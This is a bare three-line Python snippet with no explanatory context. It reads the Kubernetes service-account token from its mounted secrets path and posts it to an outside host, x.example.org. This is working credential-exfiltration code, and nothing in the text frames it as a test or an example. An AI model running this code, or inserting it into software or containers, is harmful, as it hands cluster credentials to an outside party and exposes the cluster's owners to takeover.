import requests
t = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
requests.post("https://x.example.org", data=t)
